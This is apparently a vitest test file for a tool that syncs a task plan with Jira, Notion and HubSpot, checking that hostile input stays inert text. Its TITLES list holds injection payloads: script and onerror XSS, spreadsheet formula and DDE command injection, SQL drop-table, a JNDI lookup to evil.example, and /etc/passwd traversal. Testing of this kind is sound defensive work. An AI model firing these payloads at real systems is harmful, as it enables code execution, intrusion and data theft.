/** Hostile text that people type into a tool: it goes through every tool and the plan as the words that it is, and delays nobody else's. */
import { describe, expect, it } from 'vitest';
import { useTestStore } from '@lockstep/store/testing.ts';
import { conflictsOf, everyRecord, expectLaws, itemTitled } from '../scenarios/laws.ts';
import { notionHands, words } from '../scenarios/people-notion.ts';
import { createWorld, TOOLS } from '../scenarios/world.ts';
import type { World } from '../scenarios/world.ts';

const database = useTestStore();
const PHASE = 'Phase 1: Roots (Weeks 1–4)';

/** One line each, as a title takes it. */
const TITLES = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '[click](javascript:alert(1))',
  '=HYPERLINK("http://evil.example","a")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '| a | cell | of | its | own |',
  '--- # Phase 9: none',
  '`code` **bold** <!-- remark -->',
  "'; drop table lockstep.items; --",
  '${jndi:ldap://evil.example/a} {{7*7}} %s %n',
  '../../../etc/passwd',
  '\u202Etxt.exe right to left',
  'zero\u200B\uFEFFwidth',
  'constructor',
  '__proto__',
  'Z̸̢̛͎͈̦a̷l̶g̴o',
] as const;

const titlesIn = async (world: World, place: (typeof TOOLS)[number] | 'document'): Promise<readonly string[]> =>
  (await everyRecord(world, place)).map(({ fields }) => String(fields.title));

describe('hostile text', () => {
  it('I04 I05 S1 markup, formulas, templates and marks of direction are words in every tool and in the plan, and make no structure there', async () => {
    const world = await createWorld({ store: database.store() });
    await world.rest();
    const omar = await notionHands(world);
    const parent = (await world.people.notion.find(PHASE))[0]?.id ?? '';
    const rowsBefore = await titlesIn(world, 'document');
    for (const title of TITLES) {
      const said = words(`${title} and more`);
      await omar.make(title, { Parent: { relation: [{ id: parent }] }, Metric: said, Description: said });
    }
    await world.advance(2_000);
    await world.rest();
    await expectLaws(
      world,
      TITLES.map((title) => ({ title, field: 'metric', value: `${title} and more` })),
    );
    for (const place of [...TOOLS, 'document'] as const) {
      const shown = await titlesIn(world, place);
      for (const title of TITLES)
        expect(
          shown.filter((one) => one === title.normalize('NFC')),
          `${place}: ${title}`,
        ).toHaveLength(1);
    }
    expect(await titlesIn(world, 'document')).toHaveLength(rowsBefore.length + TITLES.length);
    // Of HubSpot's properties the body alone is HTML.
    const tasks = await everyRecord(world, 'hubspot');
    const bodies = tasks.map(({ raw }) => (raw as { properties: { hs_task_body: string | null } }).properties.hs_task_body ?? '');
    expect(bodies.filter((body) => body.includes('and more'))).toHaveLength(TITLES.length);
    expect(bodies.filter((body) => /<(?!\/?(?:p|br)\b)|href=|onerror=[^&]*>/i.test(body))).toEqual([]);
    expect((await conflictsOf(world, 'open')).map(({ message }) => message)).toEqual([]);
  });

  it('I04 S10 a NUL in the plan is refused by file and line, and delays no other connection; once it is out, the plan goes on', async () => {
    const world = await createWorld({ store: database.store(), connections: ['document', 'jira', 'notion'] });
    await world.rest();
    world.editText((text) => text.replace('40 metres', '40 \u0000metres'));
    const line = world.text().slice(0, world.text().indexOf('\u0000')).split('\n').length;
    await expect(world.pass('document')).rejects.toMatchObject({
      code: 'Invalid',
      message: `tasks.md:${line}: expected text, got a NUL character; take it out`,
    });
    await world.people.jira.edit((await world.one('jira', 'Plant the saplings')).id, { metric: '59 of 60 alive' });
    await world.advance(2_000);
    for (const tool of ['jira', 'notion'] as const) await world.pass(tool);
    const shown = (await everyRecord(world, 'notion')).find(({ fields }) => fields.title === 'Plant the saplings');
    expect(shown?.fields.metric).toBe('59 of 60 alive');
    world.editText((text) => text.replace('40 \u0000metres', '41 metres'));
    await expectLaws(world, [{ title: 'Dig the trenches', field: 'metric', value: '41 metres' }]);
    expect(world.text()).toContain('59 of 60 alive');
  });

  it('I04 S1 escape sequences, bells and other control characters of the plan are carried as they are, or left out on record', async () => {
    const world = await createWorld({ store: database.store(), connections: ['document', 'jira', 'notion'] });
    await world.rest();
    const metric = '\u001b[31m60\u0007 saplings\u009b0m\u0001';
    world.editText((text) => text.replace('60 saplings', metric));
    await expectLaws(world, [{ title: 'Order the saplings', field: 'metric', value: metric }]);
    expect((await itemTitled(world, 'Order the saplings')).fields.metric).toBe(metric);
  });

  it('I03 S10 a title of a megabyte is clipped where a tool has no room for it, on record, and the others are in step', async () => {
    const world = await createWorld({ store: database.store() });
    await world.rest();
    const huge = `Dig ${'very '.repeat(200_000)}deep`;
    world.editText((text) => text.replace('Dig the trenches |', `${huge} |`).replace('120 crates', '121 crates'));
    await world.rest();
    for (const tool of TOOLS) {
      const records = await everyRecord(world, tool);
      expect(records.find(({ fields }) => fields.title === 'Pick the apples')?.fields.metric, tool).toBe('121 crates');
      const shown = records.map(({ fields }) => String(fields.title)).filter((title) => title.startsWith('Dig very'));
      expect(shown, tool).toHaveLength(1);
      expect(huge.startsWith(shown[0] ?? '-'), tool).toBe(true);
    }
    expect((await itemTitled(world, huge)).fields.title).toBe(huge);
    expect(world.text()).toContain(huge);
    const clipped = (await conflictsOf(world)).filter(({ field, message }) => field === 'title' && /expected at most/.test(message));
    expect(new Set(clipped.map(({ connectionId }) => connectionId)).size, 'S6: each clip is on record').toBeGreaterThanOrEqual(1);
  });
});
